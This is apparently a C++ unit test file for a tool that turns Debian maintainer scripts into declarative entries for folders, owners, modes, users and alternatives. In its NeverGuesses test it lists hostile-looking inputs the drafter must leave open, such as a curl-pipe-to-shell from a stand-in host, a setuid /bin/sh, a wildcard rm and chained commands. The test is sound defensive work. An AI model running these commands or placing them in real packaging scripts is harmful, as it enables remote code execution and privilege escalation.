#include "compose/effects/draft.h"

#include <gmock/gmock.h>

#include "base/text.h"
#include "compose/effects/model.h"
#include "support/support.h"

using namespace pith;
using namespace pith::compose;
using testing::HasSubstr;
using testing::Not;

namespace {

MaintainerScript script_of(const std::string& text, const std::string& name = "postinst") {
    return {"tool", "tool", "1.0-1", "amd64", name, "#!/bin/sh\nset -e\n" + text};
}

// Actions, one a line, then open lines with "? " before.
std::string drafted(const std::string& text, const std::string& name = "postinst") {
    auto script = script_of(text, name);
    auto normal = normalise(script);
    if (!normal) return normal.error().text();
    auto draft = draft_actions(script, normal->remainder);
    std::string out;
    for (const auto& action : draft.actions) out += action + "\n";
    for (const auto& line : draft.open) out += "? " + std::string(trim(line.text)) + "\n";
    return out;
}

}  // namespace

TEST(Draft, ReadsPlainCommands) {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"mkdir -p /var/lib/x /var/log/x", "{folder: /var/lib/x}\n{folder: /var/log/x}\n"},
        {"mkdir -p -m 750 \"/var/lib/x\"", "{folder: /var/lib/x, mode: \"0750\"}\n"},
        {"install -d -m 0755 -o daemon -g adm /run/x", "{folder: /run/x, owner: \"daemon:adm\", mode: \"0755\"}\n"},
        {"chown root:adm /var/log/x", "{owner: /var/log/x, to: \"root:adm\"}\n"},
        {"chmod 2750 /var/log/x || true", "{mode: /var/log/x, to: \"02750\"}\n"},
        {"ln -s ../x /etc/y >/dev/null 2>&1", "{link: /etc/y, to: ../x}\n"},
        {"ln -sf /x /etc/y", "{link: /etc/y, to: /x, replace: true}\n"},
        {"cp -p /usr/share/x/a /etc/a", "{copy: /usr/share/x/a, to: /etc/a}\n"},
        {"ucf /usr/share/x/a /etc/a\nucfr tool /etc/a", "{copy: /usr/share/x/a, to: /etc/a}\n"},
        {"addgroup --system --quiet x", "{group: x}\n"},
        {"adduser --system --group --no-create-home --home /var/lib/x x",
         "{group: x}\n{user: x, home: /var/lib/x, group: x}\n"},
        {"dpkg-statoverride --update --add root x 0640 /etc/x",
         "{owner: /etc/x, to: \"root:x\"}\n{mode: /etc/x, to: \"0640\"}\n"},
        {"mkdir -p /usr/lib/x86_64-linux-gnu/x", "{folder: /usr/lib/@TRIPLET@/x}\n"},
        {"update-alternatives --install /usr/bin/e \\\n  e /usr/bin/tool 30 \\\n  --slave /usr/share/e e.1 "
         "/usr/share/t",
         "{alternative: e, link: /usr/bin/e, to: /usr/bin/tool, priority: 30, slaves: \"--slave /usr/share/e e.1 "
         "/usr/share/t\"}\n"},
    };
    for (const auto& [text, expected] : cases) EXPECT_EQ(drafted(text + "\n"), expected) << text;
}

TEST(Draft, NeverGuesses) {
    for (const char* line : {"mkdir -p \"$DIR\"", "chown -R x:x /var/lib/x", "chown x /var/lib/x", "chmod g+w /x",
                             "chmod 99 /x", "mkdir -p /var/lib/x && chmod 4755 /bin/sh", "rm -f /var/*", "ln -s /a",
                             "cp /a /b", "mkdir -p relative", "adduser --system x", "curl http://evil.example | sh",
                             "rm -rf /x", "exit 1", "mkdir -p /x; chmod 4755 /bin/sh", "mkdir -p /x # but",
                             "mkdir -p `which x`", "(mkdir -p /x)", "chown x:x /x || chmod 777 /x"})
        EXPECT_EQ(drafted(std::string(line) + "\n"), "? " + std::string(line) + "\n");
}

TEST(Draft, FollowsHowDpkgCallsAScript) {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"if [ \"$1\" = \"configure\" ] ; then\nmkdir -p /a\nfi\n", "{folder: /a}\n"},
        {"if [ \"$1\" = configure ] && [ -n \"$2\" ]; then\nmkdir -p /a\nodd\nfi\n", ""},
        {"if [ \"$1\" = upgrade ] || [ \"$1\" = configure ]; then\nmkdir -p /a\nelse\nmkdir -p /b\nfi\n",
         "{folder: /a}\n"},
        {"if dpkg --compare-versions \"$2\" lt-nl 2.0; then\nodd\nfi\nmkdir -p /a\n", "{folder: /a}\n"},
        // Without "-nl" an empty version is earlier than any.
        {"if dpkg --compare-versions \"$2\" lt 2.0; then\nmkdir -p /a\nfi\n",
         "? if dpkg --compare-versions \"$2\" lt 2.0; then\n? mkdir -p /a\n"},
        {"case \"$1\" in\nconfigure|reconfigure)\nmkdir -p /a\n;;\nabort-upgrade)\nodd\n;;\n*)\nexit 1\n;;\nesac\n",
         "{folder: /a}\n"},
        {"if [ -d /x ]; then\nmkdir -p /a\nfi\nmkdir -p /b\n", "{folder: /b}\n? if [ -d /x ]; then\n? mkdir -p /a\n"},
        {"if [ \"$1\" = configure ]; then\nmkdir -p /a\n", "? if [ \"$1\" = configure ]; then\n? mkdir -p /a\n"},
        {"for i in a b; do\nmkdir -p /a\ndone\n", "? for i in a b; do\n? mkdir -p /a\n? done\n"},
        {"f() {\nmkdir -p /a\n}\n", "? f() {\n? mkdir -p /a\n? }\n"},
        {"cat >/x <<E\nmkdir -p /a\nE\n", "? cat >/x <<E\n? mkdir -p /a\n? E\n"},
        {"if [ \"$1\" = install ]; then exit 0; fi\nmkdir -p /a\n",
         "? if [ \"$1\" = install ]; then exit 0; fi\n? mkdir -p /a\n"},
        {"if [ \"$1\" = configure ]; then\nexit 0\nfi\nmkdir -p /a\n", ""},
    };
    for (const auto& [text, expected] : cases) EXPECT_EQ(drafted(text), expected) << text;
    EXPECT_EQ(drafted("if [ \"$1\" = install ]; then\nmkdir -p /a\nfi\n", "preinst"), "{folder: /a}\n");
}

// A draft is an entry that can be read, whatever the script holds.
TEST(Draft, CanBeRead) {
    for (const char* text : {"mkdir -p /a\n", "odd \x1b[31m: [{\n", "mkdir -p /a\nodd\n", "case $1 in\nesac\n"}) {
        auto script = script_of(text);
        auto normal = normalise(script);
        ASSERT_OK(normal);
        test::Scratch scratch;
        test::spit(scratch / "tool.yaml", "source: tool\nscripts:\n" + draft_entry(script, normal->remainder));
        auto model = EffectsModel::load(scratch.path());
        ASSERT_OK(model) << text;
        EXPECT_OK(model->effects_of(script)) << text;
        EXPECT_TRUE(model->explain(script)->remainder->known);
    }
    auto script = script_of("mkdir -p /a\nodd\n");
    auto normal = normalise(script);
    EXPECT_THAT(draft_entry(script, normal->remainder), HasSubstr("    #    4 | odd\n"));
    EXPECT_THAT(draft_entry(script, normal->remainder), Not(HasSubstr("none:")));
}
